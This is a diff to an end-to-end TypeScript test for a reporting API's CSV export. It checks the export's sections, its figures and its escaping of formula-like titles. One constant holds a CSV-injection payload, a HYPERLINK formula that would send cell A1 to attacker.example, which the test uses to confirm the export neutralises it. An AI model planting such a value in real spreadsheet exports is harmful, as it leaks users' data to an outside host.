@@ -2,6 +2,7 @@ import type { NestFastifyApplication } from '@nestjs/platform-fastify';
 import { JobName, QueueName, bullConnection } from '@ol/jobs';
 import { PrismaService } from '@ol/persistence';
 import { Queue } from 'bullmq';
+import { parse } from 'csv-parse/sync';
 import request from 'supertest';
 import { createUserWithKey, grantRole } from '../factories';
 import {
@@ -13,6 +14,20 @@ import {
 } from '../setup/child-process';
 import { expectValid, strictValidator } from '../setup/openapi-schema';
 import { createTestApp, truncateAll } from '../setup/test-app';
+
+const WELL_TITLE = '=HYPERLINK("https://attacker.example/?q="&A1,"Wellbeing score")';
+const UUID = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/i;
+
+/** The board-pack CSV's sections: each a section row, a header row, then its rows. */
+function csvSections(text: string): Map<string, { columns: string[]; rows: string[][] }> {
+  const rows: string[][] = parse(text, {});
+  const sections = new Map<string, { columns: string[]; rows: string[][] }>();
+  rows.forEach((row, i) => {
+    if (row[0] === 'section') sections.set(row[1], { columns: rows[i + 1].slice(1), rows: [] });
+    else if (rows[i - 1]?.[0] !== 'section') sections.get(row[0])!.rows.push(row.slice(1));
+  });
+  return sections;
+}
 
 /**
  * Reports and the open book end to end: the API (in process) writes runs; real worker processes
@@ -110,7 +125,8 @@ describe('reports and profit-share triggers (API + worker processes, real Postgr
           partnershipId: pid,
           code: 'WELL',
           theme: 'Health',
-          title: 'Wellbeing score',
+          // A title a spreadsheet would run as a formula: the board-pack CSV neutralises it.
+          title: WELL_TITLE,
           unit: 'score',
           aggregation: 'mean',
         },
@@ -268,16 +284,115 @@ describe('reports and profit-share triggers (API + worker processes, real Postgr
     expect(f.explanation[2].text).toContain('SROI ratio = 77294.69 ÷ 40000.00 = 1.93:1');
   });
 
-  it('gives the same numbers in the CSV as in the JSON', async () => {
+  it('gives the same numbers in the CSV as in the JSON, by section, with the working', async () => {
     const csv = await http
       .get(`${base()}/reports/${firstReportId}.csv`)
       .set(board.headers)
       .expect(200);
     expect(csv.headers['content-type']).toMatch(/text\/csv/);
-    expect(csv.text).toContain(
-      'outcome,JOBS,People into work,Jobs,people,sum,10,10,1.0000,green,good,yes,77294.69',
+    expect(csv.headers['content-disposition']).toBe(
+      'attachment; filename="report-2025-26_Q1-v1.csv"',
     );
-    expect(csv.text).toContain('total,sroiRatio,,,,,,,,,,,1.93');
+    const sections = csvSections(csv.text);
+    const json = await http
+      .get(`${base()}/reports/${firstReportId}`)
+      .set(board.headers)
+      .expect(200);
+    const f = json.body.figures;
+    expect([...sections.keys()]).toEqual([
+      'report',
+      'warnings',
+      'outcomes',
+      'verification',
+      'valuation_lines',
+      'valuation_years',
+      'totals',
+      'breakdowns',
+      'not_monetised',
+      'not_uprated',
+      'missing_data',
+      'sensitivity',
+      'sensitivity_grid',
+      'trend',
+      'working',
+    ]);
+    /** The first row of a section whose `column` (the first by default) holds `value`. */
+    const record = (id: string, value: string, column?: string) => {
+      const s = sections.get(id)!;
+      const at = column ? s.columns.indexOf(column) : 0;
+      const row = s.rows.find((r) => r[at] === value)!;
+      return Object.fromEntries(s.columns.map((c, i) => [c, row[i]]));
+    };
+    expect(record('report', 'period')).toMatchObject({ value: '2025-26 Q1' });
+    expect(record('report', 'status')).toMatchObject({ value: 'final' });
+    expect(record('report', 'method')).toMatchObject({ value: String(f.method) });
+    expect(record('report', 'payback_method')).toMatchObject({ value: f.totals.paybackMethod });
+    expect(record('report', 'report_price_year')).toMatchObject({
+      value: String(f.prices.reportPriceYear),
+    });
+    expect(record('outcomes', 'JOBS')).toMatchObject({
+      title: 'People into work',
+      actual: '10',
+      target: '10',
+      progress: '1.0000',
+      rag: 'green',
+      procurement_rating: 'good',
+      present_value: '77294.69',
+    });
+    // The mean of 6 and 8, a score at 2 places; its formula-like title is shown, never run.
+    expect(record('outcomes', 'WELL')).toMatchObject({ title: `'${WELL_TITLE}`, actual: '7.00' });
+    const jobsLine = record('valuation_lines', 'JOBS', 'code');
+    expect(jobsLine).toMatchObject({
+      basis: 'achieved',
+      quantity: '10',
+      value_per_unit: '10000.0000',
+      gross: '100000.00',
+      deadweight_rate: '0.2000',
+      deadweight_amount: '20000.00',
+      impact: '80000.00',
+      present_value: '77294.69',
+    });
+    expect(record('valuation_years', jobsLine.line)).toMatchObject({
+      code: 'JOBS',
+      year: '1',
+      discount_factor: '0.966184',
+      present_value: '77294.69',
+    });
+    expect(record('totals', 'sroi_ratio')).toMatchObject({ value: '1.93' });
+    expect(record('totals', 'sroi_ratio_n_to_1')).toMatchObject({ value: '1.93:1' });
+    expect(record('totals', 'payback_alternative_method')).toMatchObject({
+      value: f.totals.paybackAlternative.method,
+    });
+    expect(record('breakdowns', 'stakeholder')).toMatchObject({
+      group: expect.any(String),
+      ratio_n_to_1: expect.stringMatching(/:1$/),
+    });
+    expect(record('valuation_lines', 'JOBS', 'code')).toMatchObject({
+      report_price_year: String(f.prices.reportPriceYear),
+      uprating_factor: expect.stringMatching(/^\d+\.\d{6}$/),
+    });
+    expect(record('totals', 'investment_basis')).toMatchObject({
+      value: 'open-book allowable cost of returns in the period',
+    });
+    expect(record('sensitivity', 'deadweight', 'parameter')).toMatchObject({
+      source: 'standard',
+      change: '0.1',
+      present_value: '67632.85',
+      ratio: '1.69',
+      break_even_change: '0.386',
+    });
+    expect(sections.get('trend')!.rows.some((r) => r[0] === 'JOBS')).toBe(true);
+    const working = sections.get('working')!.rows.map((r) => r.join(' | '));
+    expect(working).toContainEqual(
+      expect.stringMatching(
+        /^valuation line \| JOBS \| \d+ \| input \| Outcome JOBS \(People into work\)/,
+      ),
+    );
+    expect(working).toContainEqual(expect.stringContaining('Not monetised: WELL 7 score'));
+    // Outcomes, the partnership and the report are named by code and period, never by id.
+    expect(csv.text).not.toContain(jobsOutcome);
+    expect(csv.text).not.toContain(wellOutcome);
+    expect(csv.text).not.toMatch(UUID);
   });
 
   it('makes no new version when the inputs are the same', async () => {
